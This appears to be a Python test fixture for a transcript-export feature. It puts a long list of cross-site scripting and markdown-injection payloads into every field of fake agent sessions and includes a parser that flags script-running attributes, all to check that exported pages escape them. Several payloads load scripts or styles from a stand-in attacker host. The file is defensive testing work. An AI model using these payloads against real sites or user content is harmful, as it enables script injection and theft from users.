"""Texts of hostile transcripts that would run, load or send something if they were not escaped."""

from __future__ import annotations

import json
from html.parser import HTMLParser

from tests.builders import (
    Record,
    assistant,
    attachment,
    boundary,
    call,
    custom_title,
    result,
    summary,
    system,
    user,
)
from tests.parts.share.export.conftest import PNG, link_records

RUN = "window.pwned=1"

ELEMENTS = frozenset(
    """html head meta title style body header span div input output button nav details summary p ol ul li a main section
    h1 h4 h5 h6 dl dt dd article b time code pre img em strong s table thead tbody tr th td blockquote br hr footer
    script""".split()  # noqa: SIM905 - shorter to read
)
"""The elements that a page may have, whatever the transcript contains."""

VECTORS = (
    f"<script>{RUN}</script>",
    f"<ScRiPt src=//evil.example/x.js>{RUN}</sCrIpT>",
    f'"><script>{RUN}</script>',
    f"'><script>{RUN}</script>",
    f"</script><script>{RUN}</script>",
    f"</title><script>{RUN}</script>",
    f"</style><script>{RUN}</script>",
    f"</textarea><script>{RUN}</script>",
    f"--><script>{RUN}</script>",
    f"]]><script>{RUN}</script>",
    f"</code></pre></div></details></main><script>{RUN}</script>",
    f"<img src=x onerror={RUN}>",
    f'<img src="x" onerror="{RUN}">',
    f"<img/src/onerror={RUN}>",
    f"<svg onload={RUN}>",
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
    f'<svg><use href="data:image/svg+xml;base64,{PNG}"/>',
    f'<math><mi//xlink:href="javascript:{RUN}">',
    f"<body onload={RUN}>",
    f"<details open ontoggle={RUN}>",
    f"<video><source onerror={RUN}>",
    f"<audio src onloadstart={RUN}>",
    f"<input autofocus onfocus={RUN}>",
    f"<select autofocus onfocus={RUN}>",
    f"<marquee onstart={RUN}>",
    f'<iframe src="javascript:{RUN}"></iframe>',
    f'<iframe srcdoc="<script>parent.{RUN}</script>"></iframe>',
    f'<object data="javascript:{RUN}"></object>',
    f'<embed src="javascript:{RUN}">',
    f'<a href="javascript:{RUN}">x</a>',
    f'<form action="javascript:{RUN}"><button>x</button></form>',
    f'<base href="javascript:{RUN}//">',
    f'<meta http-equiv=refresh content="0;url=javascript:{RUN}">',
    '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import url(//evil.example/x.css);*{background:url(//evil.example/x)}</style>",
    f'<div style="background:url(javascript:{RUN})">',
    f"<template><script>{RUN}</script></template>",
    f'<noscript><p title="</noscript><img src=x onerror={RUN}>">',
    f"<x contenteditable onblur={RUN} autofocus tabindex=0>",
    f"[x](javascript:{RUN})",
    f"[x](JaVaScRiPt:{RUN})",
    f"[x](java&#x0a;script:{RUN})",
    f"[x](\x01javascript:{RUN})",
    f"[x](data:text/html,<script>{RUN}</script>)",
    f"[x](vbscript:{RUN})",
    f"<javascript:{RUN}>",
    f"[x][y]\n\n[y]: javascript:{RUN}",
    f'![x](https://evil.example/x.png "onerror={RUN}")',
    f'![x" onerror="{RUN}](x)',
    f'[x](https://evil.example/" onclick="{RUN})',
    f"`<img src=x onerror={RUN}>`",
    f'```html" onload="{RUN}\n<script>{RUN}</script>\n```',
    f"```\n</code></pre><script>{RUN}</script>",
    f"| <img src=x onerror={RUN}> |\n|---|\n| <script>{RUN}</script> |",
    f"\u202e<script>{RUN}</script>\u202c",
    f"\x00<script>{RUN}</script>",
    f"\ud83d<script>{RUN}</script>",
    f"+ADw-script+AD4-{RUN}+ADw-/script+AD4-",
    f"&lt;script&gt;{RUN}&lt;/script&gt;",
    f"&#60;script&#62;{RUN}&#60;/script&#62;",
    f"${{{RUN}}} {{{{constructor.constructor('{RUN}')()}}}}",
    f"javascript:{RUN}",
    "<plaintext>",
    "<!--",
    "<![CDATA[",
)


def hostile_records(*vectors: str) -> list[Record | bytes]:
    """Return a session with these texts in every field."""
    rows = link_records([row for vector in vectors for row in _records_with_text(vector)])
    for place, row in enumerate(rows):
        if row.get("subtype") == "compact_boundary":
            rows[place] = {**row, "parentUuid": None, "logicalParentUuid": rows[place - 1]["uuid"]}
    names = [
        custom_title(vectors[0]),
        {"type": "summary", "summary": vectors[0]},
        {"type": "tag", "tag": vectors[0]},
    ]
    return [json.dumps(row).encode() for row in (*rows, *names)]


def _records_with_text(vector: str) -> list[Record]:
    image = {"type": "image", "source": {"type": "base64", "media_type": vector, "data": PNG}}
    other = {
        "type": "image",
        "source": {"type": "base64", "media_type": "image/png", "data": vector},
    }
    todos = [{"content": vector, "status": vector, "activeForm": vector}]
    return [
        user(vector, uuid="", gitBranch=vector, version=vector, slug=vector),
        assistant([{"type": "thinking", "thinking": vector, "signature": vector}], uuid="", ts=1, model=vector),
        assistant([{"type": "text", "text": vector}, {"type": vector, vector: vector}], uuid="", ts=2, tokens=100),
        assistant([call("c1", "Bash", command=vector, description=vector)], uuid="", ts=3),
        user([result("c1", vector)], uuid="", ts=4, toolUseResult={"agentId": vector, "stdout": vector}),
        assistant([call("c2", vector, **{vector: vector, "file_path": vector})], uuid="", ts=5),
        user([result("c2", [{"type": "text", "text": vector}, image, other], is_error=True)], uuid="", ts=6),
        assistant([call("c3", "Edit", file_path=vector, old_string=f"{vector}\na", new_string=vector)], uuid="", ts=7),
        assistant([call("c4", "Write", file_path=f"{vector}.py", content=f"def f(): '{vector}'")], uuid="", ts=8),
        assistant([call("c5", "TodoWrite", todos=todos)], uuid="", ts=9),
        assistant([call("c6", "ExitPlanMode", plan=vector)], uuid="", ts=10),
        assistant([call("c7", "Read", file_path=f"/x/{vector}.html")], uuid="", ts=11),
        user([result("c7", f"     1→{vector}\n     2→{vector}")], uuid="", ts=12),
        user([result("none", vector)], uuid="", ts=13),
        {**boundary(uuid="", ts=14), "compactMetadata": {"trigger": vector, "preTokens": 1}},
        summary(vector, uuid="", parent=None, ts=15),
        system(vector, uuid="", content=vector, ts=16),
        system("informational", uuid="", content=f"{vector}\n{vector}", ts=17),
        attachment(vector, uuid="", parent=None, ts=18),
        assistant([{"type": "text", "text": vector}], uuid="", ts=19, isApiErrorMessage=True),
        user(f"<local-command-stdout>{vector}</local-command-stdout>", uuid="", ts=20),
        user([{"type": "text", "text": f"{vector} {vector}"}, image, other], uuid="", ts=21),
        assistant("end", uuid="", ts=22, timestamp=vector),
    ]  # fmt: skip


class PageParts(HTMLParser):
    """The elements of a page, and the attributes in it that run code or load an address."""

    def __init__(self) -> None:
        super().__init__()
        self.elements: set[str] = set()
        self.suspect: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        """Add an element and its suspicious attributes."""
        self.elements.add(tag)
        for name, value in attrs:
            leads = name in {"href", "src"} and not (value or "").startswith(
                ("#", "data:image/png;base64,", "https://")
            )
            if leads or name.startswith("on") or name == "style":
                self.suspect.append(f"{tag} {name}={value}")
